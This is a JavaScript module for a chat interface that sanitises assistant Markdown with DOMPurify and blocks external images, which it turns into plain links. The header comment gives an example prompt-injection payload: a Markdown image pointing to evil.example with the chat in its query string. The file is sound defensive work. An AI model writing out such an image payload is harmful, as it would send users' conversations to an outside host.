// Assistant messages: Markdown (marked) → sanitised HTML (DOMPurify) → highlighted code
// (highlight.js). Nothing from LibreChat reaches innerHTML without DOMPurify.
//
// Images: a model answer is untrusted (a prompt injection can make it write
// `![](https://evil.example/?d=<the chat>)`), and an <img> fetches its src as soon as it exists.
// So an image stays only if its source is our own origin, a `blob:` URL or a `data:image/` URL;
// any other image becomes a plain link (its alt text, or its host) that fetches nothing unless
// the reader follows it. Elements and attributes that fetch by other means (media, srcset,
// poster, background) are not allowed at all. The page's Content-Security-Policy
// (chat/ui.py) is the second line: `img-src 'self' blob: data:`.
import DOMPurify from "dompurify";
import hljs from "highlight.js";
import { Marked } from "marked";

const marked = new Marked({ gfm: true, breaks: true });
hljs.configure({ ignoreUnescapedHTML: true });

const BLOCKED = "data-blocked-src";

export function allowedImageSource(src) {
  let url;
  try {
    url = new URL(src, document.baseURI);
  } catch {
    return false;
  }
  if (url.protocol === "blob:") return url.origin === location.origin;
  if (url.protocol === "data:") return /^data:image\//i.test(url.href);
  return url.origin === location.origin;
}

DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  // Links open in a new tab without handing it our window.
  if (node.tagName === "A" && node.hasAttribute("href")) {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer nofollow");
  }
  // A foreign image loses its src here (DOMPurify's document is inert: nothing was fetched) and
  // is replaced by a link once the HTML is ours (replaceBlockedImages).
  if (node.tagName === "IMG") {
    const src = node.getAttribute("src") || "";
    if (src && !allowedImageSource(src)) {
      node.removeAttribute("src");
      node.setAttribute(BLOCKED, src);
    }
  }
});

function blockedImageLink(img) {
  const src = img.getAttribute(BLOCKED);
  let host = "";
  try {
    host = new URL(src, document.baseURI).host;
  } catch {
    // not a URL: text only
  }
  const label = img.getAttribute("alt") || "image";
  const text = `[external image: ${label}${host ? ` (${host})` : ""}]`;
  if (!/^https?:/i.test(src)) return document.createTextNode(text);
  const link = document.createElement("a");
  link.href = src;
  link.target = "_blank";
  link.rel = "noopener noreferrer nofollow";
  link.className = "blocked-image";
  link.title = "An image from another site, not loaded. Follow the link to open it.";
  link.textContent = text;
  return link;
}

export function renderMarkdown(element, text) {
  const html = marked.parse(text || "", { async: false });
  const fragment = DOMPurify.sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "audio", "video", "source", "track", "picture"],
    FORBID_ATTR: ["style", "srcset", "poster", "background"],
    RETURN_DOM_FRAGMENT: true,
  });
  for (const img of fragment.querySelectorAll(`img[${BLOCKED}]`)) img.replaceWith(blockedImageLink(img));
  element.replaceChildren(fragment);
  for (const block of element.querySelectorAll("pre code")) {
    hljs.highlightElement(block);
  }
}
